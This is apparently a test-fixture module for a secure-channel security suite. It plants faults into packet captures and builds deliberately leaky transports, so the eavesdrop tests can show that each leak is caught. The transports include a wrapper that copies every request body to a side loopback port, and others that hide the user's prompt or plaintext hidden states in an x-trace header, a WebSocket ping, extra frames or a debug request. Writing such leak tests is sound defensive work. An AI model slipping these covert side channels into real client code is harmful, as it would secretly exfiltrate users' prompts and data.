"""Faults and leaks planted into a live eavesdrop run, to show that each one fails the suite.

Capture faults edit the captured segments (what a broken sniffer would have recorded);
leaks wrap the product's own transport in the suite's process, so that the leaked bytes
cross the real wire next to the real traffic.
"""

from __future__ import annotations

import base64
import io
import socket
import threading
from collections.abc import Callable, Mapping
from typing import Any

import numpy as np

from secure_channel import Request, Response, Stream, Transport
from threat_model._capture._packets import Segment

Leak = Callable[[Request], tuple[dict[str, str], bytes] | None]


# --- capture faults: fault(kind, segments, server_port) -> segments ------------------------------------


def wrong_port(kind: str, segments: list[Segment], port: int) -> list[Segment]:
    return [s for s in segments if port + 1 in (s.src[1], s.dst[1])]


def late_window(kind: str, segments: list[Segment], port: int) -> list[Segment]:
    """The window opened after the first request had gone out."""
    first = next(s.ts for s in segments if s.payload and s.dst[1] == port)
    return [s for s in segments if s.ts > first]


def one_direction(kind: str, segments: list[Segment], port: int) -> list[Segment]:
    return [s for s in segments if s.src[1] != port]


def dropped_segments(kind: str, segments: list[Segment], port: int) -> list[Segment]:
    carrying = [s for s in segments if s.payload and port in (s.src[1], s.dst[1])]
    lost = {id(s) for s in carrying[1::3]}
    return [s for s in segments if id(s) not in lost]


def empty_diffusion(kind: str, segments: list[Segment], port: int) -> list[Segment]:
    return [] if kind == "diffusion" else segments


# --- leaks -------------------------------------------------------------------------------------


class _OuterHeaders(Transport):
    """Sits under the sealed layer and adds headers to the next outer request (or upgrade)."""

    def __init__(self, inner: Transport) -> None:
        self.inner, self.security, self.stats = inner, inner.security, inner.stats
        self.host = getattr(inner, "host", "127.0.0.1")
        self.extra: dict[str, str] = {}

    def exchange(self, request: Request) -> Response:
        headers, self.extra = {**request.headers, **self.extra}, {}
        return self.inner.exchange(Request(request.method, request.path, request.content, headers))

    def open_stream(self, path: str, headers: Mapping[str, str] | None = None) -> Stream:
        extra, self.extra = self.extra, {}
        return self.inner.open_stream(path, {**(headers or {}), **extra})

    def close(self) -> None:
        self.inner.close()


class _Tapped(Stream):
    """A stream whose outgoing messages pass through ``on_send`` first (a leaky build's hook)."""

    def __init__(self, inner: Stream, on_send: Callable[[bytes], None]) -> None:
        self.inner, self.stats, self.on_send = inner, inner.stats, on_send

    def send(self, message: bytes) -> None:
        self.on_send(message)
        self.inner.send(message)

    def recv(self) -> bytes:
        return self.inner.recv()

    def close(self) -> None:
        self.inner.close()


def _as_request(message: bytes) -> Request:
    """A stream message as the request it replaces: a step (op byte, for BOUND_STEP the stream handle,
    then the frame) as a step request with its frame; anything else (open, close) as a request
    without a content type."""
    from lambda_split.protocol import FRAME_CONTENT_TYPE, StreamOp

    op = message[0] if message else None
    if op not in (StreamOp.STEP, StreamOp.BOUND_STEP):
        return Request("POST", "/v1/stream", message[1:])
    body = message[2:] if op == StreamOp.BOUND_STEP else message[1:]
    return Request("POST", "/v1/stream", body, {"content-type": FRAME_CONTENT_TYPE})


class SideChannel(Transport):
    """Wraps the client's transport; on the first request ``leak`` yields something for, it puts
    that on the wire: in an outer header (``where="header"``) or as an extra outer request."""

    def __init__(self, outer: Any, leak: Leak, where: str = "request") -> None:
        self.outer, self.leak, self.where = outer, leak, where
        self.security, self.stats = outer.security, outer.stats
        self.below = _OuterHeaders(outer.inner) if hasattr(outer, "inner") else None
        if self.below is not None:
            outer.inner = self.below
        self.done = False

    def _maybe_leak(self, request: Request) -> None:
        payload = None if self.done else self.leak(request)
        if payload is not None:
            self.done = True
            headers, body = payload
            if self.where == "header" and self.below is not None:
                self.below.extra = headers
            else:
                wire = self.below or self.outer
                wire.exchange(Request("POST", "/v1/debug", content=body, headers=headers))

    def exchange(self, request: Request) -> Response:
        self._maybe_leak(request)
        return self.outer.exchange(request)

    def open_stream(self, path: str, headers: Mapping[str, str] | None = None) -> Stream:
        """On the stream the leak looks at each message sent; a header leak waits for the next
        outer request or upgrade (none comes within a stream session)."""
        return _Tapped(self.outer.open_stream(path, headers), lambda m: self._maybe_leak(_as_request(m)))

    def close(self) -> None:
        self.outer.close()


def step_hidden(request: Request) -> Any:
    """The hidden states in a plaintext step request (what the leaky build would exfiltrate): its body
    when it is of the frame content type (frames carry no magic; the protocol says where they are)."""
    from lambda_split.protocol import FRAME_CONTENT_TYPE, FrameError, decode_frame

    if request.headers.get("content-type") != FRAME_CONTENT_TYPE:
        return None
    try:
        frame = decode_frame(request.content)
    except FrameError:
        return None
    hidden = frame.tensors.get("hidden")
    return None if hidden is None else hidden.numpy().astype(np.float32)


def hidden_leak(encode: Callable[[np.ndarray], tuple[dict[str, str], bytes]]) -> Leak:
    def leak(request: Request) -> tuple[dict[str, str], bytes] | None:
        hidden = step_hidden(request)
        return None if hidden is None else encode(hidden)

    return leak


def fixed_leak(headers: dict[str, str], body: bytes) -> Leak:
    return lambda request: (headers, body)


def png_base64(image: Any) -> bytes:
    from PIL import Image

    pixels = (np.clip(np.asarray(image, dtype=np.float32), 0, 1) * 255).round().astype(np.uint8)
    buffer = io.BytesIO()
    Image.fromarray(pixels).save(buffer, format="PNG")
    return b'{"image": "data:image/png;base64,' + base64.b64encode(buffer.getvalue()) + b'"}'


class SinkServer:
    """A TCP server on another loopback port that swallows whatever it is sent."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.05)
        self.port: int = self.sock.getsockname()[1]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(5)
                while conn.recv(65536):
                    pass

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()


class ExfiltratingTransport(Transport):
    """Sends a copy of every request body to another port on the side, then does the real exchange."""

    def __init__(self, inner: Transport, port: int) -> None:
        self.inner, self.port = inner, port
        self.security, self.stats = inner.security, inner.stats

    def _copy(self, body: bytes) -> None:
        with socket.create_connection(("127.0.0.1", self.port)) as side:
            side.sendall(body or b"-")

    def exchange(self, request: Request) -> Response:
        self._copy(request.content)
        return self.inner.exchange(request)

    def open_stream(self, path: str, headers: Mapping[str, str] | None = None) -> Stream:
        return _Tapped(self.inner.open_stream(path, headers), self._copy)

    def close(self) -> None:
        self.inner.close()


# --- leaks hidden in the stream's WebSocket connection ------------------------------------------


def _websocket(stream: Any) -> Any:
    """The WebSocketStream under a (sealed) stream: where raw frames can be put on the wire."""
    while not hasattr(stream, "_ws"):
        stream = stream.inner
    return stream


class StreamLeak(Transport):
    """Wraps the client's transport; on its stream it puts the secret in the WebSocket connection
    next to the honest traffic, without breaking the session:

    * ``upgrade``: ``x-trace: <base64 of the prompt>`` on the upgrade request;
    * ``ping``: the prompt as the payload of a client ping, right after the first message
      (the server answers with a pong, the session goes on);
    * ``text``: the prompt in a (masked) text frame, just before the stream's close;
    * ``plaintext``: the first step message (op byte and the prefill frame of hidden states) sent
      again unsealed, in a binary frame, just before the stream's close.
    """

    def __init__(self, inner: Transport, how: str, prompt: str) -> None:
        self.inner, self.how, self.prompt = inner, how, prompt
        self.security, self.stats = inner.security, inner.stats

    def exchange(self, request: Request) -> Response:
        response: Response = self.inner.exchange(request)
        return response

    def open_stream(self, path: str, headers: Mapping[str, str] | None = None) -> Stream:
        extra = {"x-trace": base64.b64encode(self.prompt.encode()).decode()} if self.how == "upgrade" else {}
        return _LeakyStream(self.inner.open_stream(path, {**(headers or {}), **extra}), self)

    def close(self) -> None:
        self.inner.close()


class _LeakyStream(Stream):
    def __init__(self, inner: Stream, plant: StreamLeak) -> None:
        self.inner, self.stats, self.plant = inner, inner.stats, plant
        self.first_step: bytes | None = None
        self.pinged = False

    def _raw(self, send: Callable[[Any], None]) -> None:
        ws = _websocket(self.inner)
        send(ws._ws)
        ws._flush()

    def send(self, message: bytes) -> None:
        self.inner.send(message)
        from lambda_split.protocol import StreamOp

        if self.first_step is None and message[:1] and message[0] in (StreamOp.STEP, StreamOp.BOUND_STEP):
            self.first_step = message
        if self.plant.how == "ping" and not self.pinged:
            self.pinged = True
            self._raw(lambda ws: ws.send_ping(self.plant.prompt.encode()))

    def recv(self) -> bytes:
        return self.inner.recv()

    def close(self) -> None:
        if self.plant.how == "text":
            self._raw(lambda ws: ws.send_text(self.plant.prompt.encode()))
        elif self.plant.how == "plaintext" and self.first_step is not None:
            step = self.first_step
            self._raw(lambda ws: ws.send_binary(step))
        self.inner.close()
